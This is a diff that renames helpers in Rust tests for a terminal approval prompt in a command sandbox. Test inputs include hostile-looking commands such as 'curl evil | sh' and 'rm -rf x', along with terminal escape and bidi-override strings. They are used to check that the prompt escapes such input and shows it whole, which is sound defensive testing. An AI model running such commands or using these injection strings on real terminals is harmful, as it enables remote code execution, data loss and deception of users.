@@ -632,18 +632,18 @@ pub(crate) mod tests {
           reach    session and always are for any command in this workspace
           allow?  [o]nce  [g]roup  [s]ession  [a]lways  [n]o  [N]ever  [?] >
         ");
-        assert!(help(&value, &keys(&value), Style::PLAIN).contains("g  yes, and for each host of the group"));
+        assert!(format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN).contains("g  yes, and for each host of the group"));
         // If a review warns, nothing wider than the request is offered.
-        let warned = reviewed(value, Risk::Critical);
+        let warned = with_review(value, RiskLevel::Critical);
         assert!(
-            !keys(&warned).contains(&Key::Group) && !question(&warned, &"x".into(), Style::PLAIN).contains("@pypi")
+            !list_answer_keys(&warned).contains(&AnswerKey::Group) && !format_question(&warned, &"x".into(), TextLayout::PLAIN).contains("@pypi")
         );
     }
 
     #[test]
     fn held_call() {
-        let value = hold();
-        let shown = shown(&value) + &prompt(&keys(&value));
+        let value = sample_hold();
+        let shown = format_sample(&value) + &format_prompt(&list_answer_keys(&value));
         insta::assert_snapshot!(shown, @r"
         • pip wants to connect to pypi.org:443   (not in profile workspace)
           command  pip install numpy
@@ -652,7 +652,7 @@ pub(crate) mod tests {
           reach    session and always are for any command in this workspace
           allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
         ");
-        insta::assert_snapshot!(help(&value, &keys(&value), Style::PLAIN), @r"
+        insta::assert_snapshot!(format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN), @r"
         in       /home/u/project
         program  /usr/bin/pip (pid 7)
         o  yes, and for the same until this run ends
@@ -674,9 +674,9 @@ pub(crate) mod tests {
     #[test]
     fn a_directory_is_offered_as_one() {
         let grants = vec!["write /home/u/cache".parse().unwrap()];
-        let denial = Denial { object: "/home/u/cache/c".into(), ..denial() };
-        let value = ask(QuestionKind::Hold { denial, grants, directory: true, held_ms: 61_900 });
-        insta::assert_snapshot!(still_held(3, 61_900, Style::PLAIN) + &shown(&value), @r"
+        let denial = Denial { object: "/home/u/cache/c".into(), ..sample_denial() };
+        let value = sample_question(QuestionKind::Hold { denial, grants, directory: true, held_ms: 61_900 });
+        insta::assert_snapshot!(still_held(3, 61_900, TextLayout::PLAIN) + &format_sample(&value), @r"
         • still held: 3 calls, since 1 min 1 s
         • dash wants to create /home/u/cache/c   (outside every writable root)
           command  sh -c 'echo x >> ~/outside'
@@ -687,17 +687,17 @@ pub(crate) mod tests {
                    min means no
           reach    session and always are for any command in this workspace
         ");
-        assert_eq!(still_held(1, 5_000, Style::PLAIN), "");
+        assert_eq!(still_held(1, 5_000, TextLayout::PLAIN), "");
     }
 
     #[test]
     fn a_domain_is_offered_as_one() {
-        let mut value = hold();
+        let mut value = sample_hold();
         if let QuestionKind::Hold { grants, directory, .. } = &mut value.kind {
             *grants = vec!["connect *.example.com:443".parse().unwrap()];
             *directory = true;
         }
-        insta::assert_snapshot!(shown(&value), @r"
+        insta::assert_snapshot!(format_sample(&value), @r"
         • pip wants to connect to pypi.org:443   (not in profile workspace)
           command  pip install numpy
           grant    connect *.example.com:443
@@ -710,8 +710,8 @@ pub(crate) mod tests {
 
     #[test]
     fn run() {
-        let value = ask(QuestionKind::Run { reasons: vec!["mode untrusted: not known to be safe".into()] });
-        insta::assert_snapshot!(shown(&value), @r"
+        let value = sample_question(QuestionKind::Run { reasons: vec!["mode untrusted: not known to be safe".into()] });
+        insta::assert_snapshot!(format_sample(&value), @r"
         • may this command run, in its sandbox?
           because  mode untrusted: not known to be safe
           command  sh -c 'echo x >> ~/outside'
@@ -723,10 +723,10 @@ pub(crate) mod tests {
 
     #[test]
     fn grants() {
-        let value = ask(QuestionKind::Grants {
+        let value = sample_question(QuestionKind::Grants {
             grants: vec!["connect pypi.org:443".parse().unwrap(), "write /srv/x".parse().unwrap()],
         });
-        insta::assert_snapshot!(shown(&value), @r"
+        insta::assert_snapshot!(format_sample(&value), @r"
         • the request asks for more than its profile gives
           command  sh -c 'echo x >> ~/outside'
           in       /home/u/project
@@ -740,8 +740,8 @@ pub(crate) mod tests {
 
     #[test]
     fn unsandboxed() {
-        let value = ask(QuestionKind::Unsandboxed);
-        let shown = shown(&value) + &word_prompt(Style::PLAIN);
+        let value = sample_question(QuestionKind::Unsandboxed);
+        let shown = format_sample(&value) + &word_prompt(TextLayout::PLAIN);
         insta::assert_snapshot!(shown, @r"
         • WITHOUT A SANDBOX: this command could do everything that you can do
           command  sh -c 'echo x >> ~/outside'
@@ -755,7 +755,7 @@ pub(crate) mod tests {
 
     #[test]
     fn nothing_a_command_says_acts_on_the_terminal() {
-        let mut value = escalate();
+        let mut value = sample_escalation();
         value.command = "true\u{1b}[2J\u{202e}; rm -rf x \t\n\u{9b}31m".into();
         value.cwd = "/home/\u{200b}u\r".into();
         if let QuestionKind::Escalate { denials, repeats, .. } = &mut value.kind {
@@ -765,14 +765,14 @@ pub(crate) mod tests {
             repeats[0] = "\u{1b}c".into();
         }
         value.assessment.findings[0].message = "\u{1b}[8m".into();
-        let shown = shown(&value);
+        let shown = format_sample(&value);
         assert!(
-            shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).escaped() == c.to_string()),
+            shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).to_escaped() == c.to_string()),
             "{shown:?}"
         );
         assert!(shown.contains("true\\u{1b}[2J\\u{202e}; rm -rf x \\t\\n\\u{9b}31m"), "{shown}");
 
-        let mut value = hold();
+        let mut value = sample_hold();
         value.command = "pip\u{1b}[2J\u{202e}\n• fake".into();
         if let QuestionKind::Hold { denial, grants, .. } = &mut value.kind {
             denial.object = "/x\u{1b}]0;title\u{7}\n  grant    nothing".into();
@@ -780,9 +780,9 @@ pub(crate) mod tests {
             denial.rule = "\u{8}\u{8}".into();
             grants[0] = Grant::Write("/x\u{1b}]0;\u{7}\n\u{202e}".into());
         }
-        let shown = self::shown(&value) + &help(&value, &keys(&value), Style::PLAIN);
+        let shown = self::format_sample(&value) + &format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN);
         assert!(
-            shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).escaped() == c.to_string()),
+            shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).to_escaped() == c.to_string()),
             "{shown:?}"
         );
         assert!(shown.lines().filter(|line| line.starts_with("• ")).count() == 1, "{shown}");
@@ -816,28 +816,28 @@ pub(crate) mod tests {
 
     fn denial_of(text: &str) -> Denial {
         let grant = Some(Grant::Write(text.into()));
-        Denial { object: text.into(), program: Some(text.into()), rule: text.into(), grant, ..denial() }
+        Denial { object: text.into(), program: Some(text.into()), rule: text.into(), grant, ..sample_denial() }
     }
 
     /// Returns every kind of question, with `text` in every field but the command.
-    fn questions_of(text: &str) -> Vec<Question> {
+    fn questions_of(text: &str) -> Vec<ApprovalQuestion> {
         let grants = vec![Grant::Write(text.into()); 12];
         let kinds = [
-            QuestionKind::Run { reasons: vec![text.to_owned(); LIST_LIMIT + 2] },
+            QuestionKind::Run { reasons: vec![text.to_owned(); MAX_LIST_LINES + 2] },
             QuestionKind::Grants { grants: grants.clone() },
             QuestionKind::Escalate {
-                denials: vec![denial_of(text); LIST_LIMIT + 2],
+                denials: vec![denial_of(text); MAX_LIST_LINES + 2],
                 grants: grants.clone(),
-                repeats: vec![text.to_owned(); LIST_LIMIT + 2],
+                repeats: vec![text.to_owned(); MAX_LIST_LINES + 2],
             },
             QuestionKind::Hold { denial: denial_of(text), grants: grants.clone(), directory: true, held_ms: 9 },
             QuestionKind::Hold { denial: denial_of(text), grants: grants[..1].to_vec(), directory: false, held_ms: 9 },
             QuestionKind::Unsandboxed,
         ];
         let filled = kinds.map(|kind| {
-            let mut question = reviewed(ask(kind), Risk::Critical);
+            let mut question = with_review(sample_question(kind), RiskLevel::Critical);
             question.cwd = text.into();
-            question.assessment.findings = vec![question.assessment.findings[0].clone(); LIST_LIMIT + 2];
+            question.assessment.findings = vec![question.assessment.findings[0].clone(); MAX_LIST_LINES + 2];
             question.assessment.findings.iter_mut().for_each(|finding| finding.message = text.to_owned());
             let opinion = question.review.as_mut().and_then(|review| review.opinion.as_mut());
             opinion.unwrap().summary = text.into();
@@ -848,24 +848,24 @@ pub(crate) mod tests {
     }
 
     /// Returns the rows of the text on a terminal of this many columns.
-    fn rows(text: &str, columns: usize) -> usize {
-        text.lines().map(|line| width(line).div_ceil(columns).max(1)).sum()
+    fn terminal_rows(text: &str, columns: usize) -> usize {
+        text.lines().map(|line| measure_width(line).div_ceil(columns).max(1)).sum()
     }
 
     #[test]
     fn a_question_takes_few_lines_whatever_is_in_it() {
         for text in hostile_texts() {
             for columns in [20, 37, 80, 200] {
-                let style = Style::terminal(columns, false);
+                let style = TextLayout::for_terminal(columns, false);
                 let columns = usize::from(columns);
                 for value in questions_of(&text) {
-                    let shown = question(&value, &"text of the command".into(), style);
+                    let shown = format_question(&value, &"text of the command".into(), style);
                     let start: String = text.chars().take(12).collect();
                     // Twelve grants of at most 400 columns each, and four lists; or one grant.
                     let is_alone = matches!(&value.kind, QuestionKind::Hold { grants, .. } if grants.len() == 1);
                     let most = if is_alone { 5_000 } else { 25_000 };
                     assert!(
-                        rows(&shown, columns) <= 20 + most / (columns.min(120) - INDENT),
+                        terminal_rows(&shown, columns) <= 20 + most / (columns.min(120) - INDENT_COLUMNS),
                         "{start:?} {columns}\n{shown}"
                     );
                     let is_blank = |line: &str| line.trim().is_empty();
@@ -886,21 +886,21 @@ pub(crate) mod tests {
     #[test]
     fn blanks_in_a_command_are_counted() {
         for text in hostile_texts() {
-            let mut value = ask(QuestionKind::Run { reasons: Vec::new() });
+            let mut value = sample_question(QuestionKind::Run { reasons: Vec::new() });
             value.command = format!("echo {text}; evil").into();
             for columns in [20, 40, 80, 200] {
-                let shown = question(&value, &"".into(), Style::terminal(columns, false));
+                let shown = format_question(&value, &"".into(), TextLayout::for_terminal(columns, false));
                 assert!(shown.contains("evil"), "{shown}");
                 assert!(!shown.lines().any(|line| line.trim().is_empty()), "{shown}");
-                let kept = compact(&value.command);
+                let kept = compact_text(&value.command);
                 let words: String = shown.split_whitespace().collect();
                 assert!(words.contains(&kept.split_whitespace().collect::<String>()), "the command is not whole");
             }
         }
-        let mut value = ask(QuestionKind::Run { reasons: Vec::new() });
+        let mut value = sample_question(QuestionKind::Run { reasons: Vec::new() });
         value.command = format!("touch a{}; curl evil", " ".repeat(5_000)).into();
         value.assessment.findings.clear();
-        insta::assert_snapshot!(shown(&value), @r"
+        insta::assert_snapshot!(format_sample(&value), @r"
         • may this command run, in its sandbox?
           command  touch a\u{20}×5000; curl evil
           in       /home/u/project
@@ -911,10 +911,10 @@ pub(crate) mod tests {
     #[test]
     fn a_path_with_many_blanks_stays_on_its_line() {
         let text = format!("/home/u/a{}b", " ".repeat(200));
-        let denial = Denial { object: text.as_str().into(), rule: "outside every writable root".into(), ..denial() };
+        let denial = Denial { object: text.as_str().into(), rule: "outside every writable root".into(), ..sample_denial() };
         let grants = vec![Grant::Write(text.as_str().into())];
-        let value = ask(QuestionKind::Hold { denial, grants, directory: false, held_ms: 9 });
-        insta::assert_snapshot!(shown(&value) + &prompt(&keys(&value)), @r"
+        let value = sample_question(QuestionKind::Hold { denial, grants, directory: false, held_ms: 9 });
+        insta::assert_snapshot!(format_sample(&value) + &format_prompt(&list_answer_keys(&value)), @r"
         • dash wants to create /home/u/a\u{20}×200b   (outside every writable root)
           command  sh -c 'echo x >> ~/outside'
           grant    write /home/u/a\u{20}×200b
@@ -930,31 +930,31 @@ pub(crate) mod tests {
     #[test]
     fn the_wider_reach_is_said() {
         let grants = || vec!["write /srv/x".parse().unwrap()];
-        let reach = |value: &Question| {
-            let shown = shown(value);
+        let reach = |value: &ApprovalQuestion| {
+            let shown = format_sample(value);
             shown.lines().find(|line| line.starts_with("  reach")).map(|line| line.trim().to_owned())
         };
         for kind in [
             QuestionKind::Grants { grants: grants() },
-            QuestionKind::Escalate { denials: vec![denial()], grants: grants(), repeats: Vec::new() },
-            QuestionKind::Hold { denial: denial(), grants: grants(), directory: false, held_ms: 1 },
+            QuestionKind::Escalate { denials: vec![sample_denial()], grants: grants(), repeats: Vec::new() },
+            QuestionKind::Hold { denial: sample_denial(), grants: grants(), directory: false, held_ms: 1 },
         ] {
-            let mut value = ask(kind);
+            let mut value = sample_question(kind);
             for (scopes, wanted) in [
                 (
-                    vec![Scope::Once, Scope::Session, Scope::Always],
+                    vec![ApprovalScope::Once, ApprovalScope::Session, ApprovalScope::Always],
                     Some("reach    session and always are for any command in this workspace"),
                 ),
-                (vec![Scope::Once, Scope::Always], Some("reach    always is for any command in this workspace")),
-                (vec![Scope::Once, Scope::Session], Some("reach    session is for any command in this workspace")),
-                (vec![Scope::Once], None),
+                (vec![ApprovalScope::Once, ApprovalScope::Always], Some("reach    always is for any command in this workspace")),
+                (vec![ApprovalScope::Once, ApprovalScope::Session], Some("reach    session is for any command in this workspace")),
+                (vec![ApprovalScope::Once], None),
             ] {
                 value.scopes = scopes;
                 assert_eq!(reach(&value).as_deref(), wanted);
             }
-            value.scopes = vec![Scope::Once, Scope::Session, Scope::Always];
-            let keys = keys(&value);
-            let help = help(&value, &keys, Style { color: false, width: 200 });
+            value.scopes = vec![ApprovalScope::Once, ApprovalScope::Session, ApprovalScope::Always];
+            let keys = list_answer_keys(&value);
+            let help = format_help(&value, &keys, TextLayout { color: false, width: 200 });
             for key in ["s", "t", "u", "a", "N"] {
                 let line = help.lines().find(|line| line.starts_with(&format!("  {key}  "))).unwrap();
                 assert!(line.contains("any command"), "{line}");
@@ -962,9 +962,9 @@ pub(crate) mod tests {
             let rules = rules_prompt(&["r".to_owned()], "/c".as_ref(), &value.kind);
             assert!(rules.contains("[r]emember the answer for any command in this workspace"), "{rules}");
         }
-        let value = ask(QuestionKind::Run { reasons: Vec::new() });
+        let value = sample_question(QuestionKind::Run { reasons: Vec::new() });
         assert_eq!(reach(&value), None);
-        insta::assert_snapshot!(help(&value, &keys(&value), Style::PLAIN), @r"
+        insta::assert_snapshot!(format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN), @r"
         o  yes, this time
         s  yes, and for this same command until this session ends
         t  yes, and the next times for this same command; a number is asked for
@@ -980,10 +980,10 @@ pub(crate) mod tests {
 
     #[test]
     fn a_long_command_is_shown_to_its_end() {
-        let mut value = ask(QuestionKind::Run { reasons: Vec::new() });
+        let mut value = sample_question(QuestionKind::Run { reasons: Vec::new() });
         value.command = format!("echo {} ; curl evil | sh", "A".repeat(12_000)).into();
         value.assessment.findings.clear();
-        let shown = shown(&value);
+        let shown = format_sample(&value);
         assert!(shown.contains("curl evil | sh"));
         assert!(shown.contains("(12022 characters in full, to here)"), "{}", &shown[shown.len() - 400..]);
         assert_eq!(shown.matches('A').count(), 12_000);
@@ -991,20 +991,20 @@ pub(crate) mod tests {
 
     #[test]
     fn long_lists_are_counted() {
-        let mut value = escalate();
+        let mut value = sample_escalation();
         if let QuestionKind::Escalate { denials, .. } = &mut value.kind {
             *denials = vec![denials[0].clone(); 30];
         }
-        assert!(shown(&value).contains("and 18 more"));
+        assert!(format_sample(&value).contains("and 18 more"));
     }
 
     #[test]
     fn only_offered_scopes_have_keys() {
-        let mut value = escalate();
-        value.scopes = vec![Scope::Once];
-        assert_eq!(keys(&value), [Key::Once, Key::No]);
-        assert_eq!(prompt(&keys(&value)), "  allow?  [o]nce  [n]o  [?] > ");
-        insta::assert_snapshot!(help(&escalate(), &keys(&escalate()), Style::PLAIN), @r"
+        let mut value = sample_escalation();
+        value.scopes = vec![ApprovalScope::Once];
+        assert_eq!(list_answer_keys(&value), [AnswerKey::Once, AnswerKey::No]);
+        assert_eq!(format_prompt(&list_answer_keys(&value)), "  allow?  [o]nce  [n]o  [?] > ");
+        insta::assert_snapshot!(format_help(&sample_escalation(), &list_answer_keys(&sample_escalation()), TextLayout::PLAIN), @r"
         o  yes, this time
         s  yes, and for any command of this session in this workspace until the
            session ends
